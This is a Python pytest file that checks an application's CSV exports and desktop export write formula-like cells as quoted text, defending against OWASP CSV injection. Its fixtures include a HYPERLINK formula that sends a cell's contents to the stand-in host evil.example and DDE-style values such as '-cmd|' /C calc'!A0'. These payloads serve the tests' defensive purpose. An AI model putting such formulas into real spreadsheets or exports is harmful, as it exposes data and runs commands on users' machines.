"""CSV exports never hand a spreadsheet a formula to run (OWASP CSV injection): the CLI's
`--format csv` of licenses, users, history and connections, and the window's export, write
such cells as text; plain negative numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from core.cli import main
from core.cli.output import emit
from core.controller import Controller
from core.domain.spreadsheet import spreadsheet_safe
from core.simulator.demo import size_draft
from core.storage.repositories import ConnectionRepository

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("-12", "-12"),
        ("-12.50", "-12.50"),
        ("-1,234", "-1,234"),
        ("+7", "+7"),
        ("Contoso", "Contoso"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_safe_quotes_formulas_and_keeps_numbers(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe


def test_emit_csv_neutralises_text_but_not_negative_numbers() -> None:
    out = io.StringIO()
    emit([{"name": "=1+2", "free": -5, "waste_cost": -1.5, "note": "-5+1"}], "csv", out=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1] == ["'=1+2", "-5", "-1.50", "'-5+1"]


def _cells(text: str) -> list[str]:
    return [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]


def test_cli_csv_exports_never_start_a_cell_with_a_formula(
    controller: Controller, database, capsys
) -> None:
    conn = database.thread_connection()
    with database.transaction(conn):
        cid = ConnectionRepository().insert(conn, size_draft("size:60:5", name=HOSTILE_NAME))
    run = controller.import_now(cid)
    assert run.error is None
    with database.transaction(conn):
        conn.execute("UPDATE users SET display_name = '@SUM(1+1)*cmd|calc'")

    seen: set[str] = set()
    for command in (["licenses"], ["users"], ["history"], ["connections", "list"]):
        assert main([*command, "--format", "csv"], controller_factory=lambda: controller) == 0
        cells = _cells(capsys.readouterr().out)
        assert cells, command
        seen.update(cells)
        for cell in cells:
            assert not cell.startswith(("=", "@", "\t", "\r")), (command, cell)
            assert (
                not cell.startswith(("+", "-"))
                or cell.lstrip("+-").replace(",", "").replace(".", "").isdigit()
            ), (command, cell)
    assert "'" + HOSTILE_NAME in seen  # licenses, history and connections name it
    assert "'@SUM(1+1)*cmd|calc" in seen  # users


def test_window_export_writes_formulas_as_text(tmp_path: Path) -> None:
    from desktop.csv_export import write_rows

    path = tmp_path / "export.csv"
    write_rows(path, ["Name", "Free"], iter([[HOSTILE_NAME, "-3"], ["Fabrikam", "-1,234"]]))
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1:] == [["'" + HOSTILE_NAME, "-3"], ["Fabrikam", "-1,234"]]
